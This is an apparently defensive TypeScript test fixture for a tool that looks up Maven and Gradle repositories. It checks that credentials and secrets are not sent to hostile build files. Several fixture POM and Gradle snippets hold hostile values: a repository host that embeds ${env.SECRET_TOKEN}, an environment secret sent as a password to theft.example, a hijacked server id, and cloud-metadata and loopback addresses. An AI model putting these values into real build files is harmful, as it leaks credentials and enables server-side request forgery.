import { basic } from './person.ts';
import type { Shape } from './shape.ts';

/** Each shape has its own artifact, so that its requests are told apart. */
let artifacts = 0;
const artifact = (): string => `secret-${++artifacts}-lib`;
const pom = (repository: string): string => `<project><modelVersion>4.0.0</modelVersion><groupId>own</groupId>
  <artifactId>own</artifactId><version>1</version><repositories>${repository}</repositories><dependencies><dependency>
  <groupId>com.acme</groupId><artifactId>${artifact()}</artifactId><version>1.0</version></dependency></dependencies></project>`;
const repository = (id: string, url: string): string => `<repository><id>${id}</id><url>${url}</url></repository>`;
const gradle = (repositories: string): string =>
  `repositories {\n${repositories}\n}\ndependencies { implementation 'com.acme:${artifact()}:1.0' }\n`;

export const mavenShapes: readonly Shape[] = [
  {
    title: 'Maven, a repository of the person with a password',
    files: { 'pom.xml': pom('') },
    asked: [`maven.acme.example ${basic('of-maven')}`],
    hover: 'maven.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'Maven, a repository of a POM beside that of the person',
    files: { 'pom.xml': pom(repository('open', 'https://open-maven.acme.example/m2')) },
    asked: [`maven.acme.example ${basic('of-maven')}`, 'open-maven.acme.example'],
    hover: 'maven.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'Maven, a repository of a POM with the id of a server',
    files: { 'pom.xml': pom(repository('team', 'https://theft.example/m2')) },
    asked: [],
    hover: 'is for the name team',
  },
  {
    title: 'Maven, another address for the id of a repository of the person',
    files: { 'pom.xml': pom(repository('acme', 'https://theft.example/m2')) },
    asked: [`maven.acme.example ${basic('of-maven')}`],
    hover: 'maven.acme.example',
  },
  {
    title: 'Maven, a mirror of the person for a repository of a POM',
    files: { 'pom.xml': pom(repository('mirrored', 'https://theft.example/m2')) },
    asked: [`maven.acme.example ${basic('of-maven')}`, `mirror.acme.example ${basic('of-mirror')}`],
    hover: 'mirror.acme.example',
  },
  {
    isOfWorkspace: true,
    title: 'Maven, a variable in the address of a POM',
    files: { 'pom.xml': pom(repository('v', 'https://${env.SECRET_TOKEN}.theft.example/m2')) },
    asked: [],
    hover: 'SECRET_TOKEN',
  },
  {
    isOfWorkspace: true,
    title: 'Maven, a metadata address in a POM',
    files: { 'pom.xml': pom(repository('i', 'http://169.254.169.254/latest')) },
    asked: [],
    hover: 'Not looked up',
  },
  {
    isOfWorkspace: true,
    title: 'Gradle, a repository with a password beside it',
    files: {
      'build.gradle': gradle(
        "maven { url 'https://gradle.acme.example/m2'; credentials { username 'me'; password 'beside' } }",
      ),
    },
    asked: [`gradle.acme.example ${basic('beside')}`],
    hover: 'From gradle.acme.example (build.gradle)',
  },
  {
    isOfWorkspace: true,
    title: 'Gradle, a repository with the name of a password of the person',
    files: {
      'build.gradle': gradle("maven { name 'kept'; url 'https://theft.example/m2'; credentials(PasswordCredentials) }"),
    },
    asked: [],
    hover: 'is for the name kept',
  },
  {
    isOfWorkspace: true,
    title: 'Gradle, a variable in a password',
    files: {
      'build.gradle': gradle(
        "maven { url 'https://theft.example/m2'; credentials { username 'me'; password System.getenv('SECRET_TOKEN') } }",
      ),
    },
    asked: [],
    hover: 'SECRET_TOKEN',
  },
  {
    isOfWorkspace: true,
    title: 'Gradle, a loopback address',
    files: { 'build.gradle': gradle("maven { url 'http://127.0.0.1:9/m2' }") },
    asked: [],
    hover: 'Not looked up',
  },
];
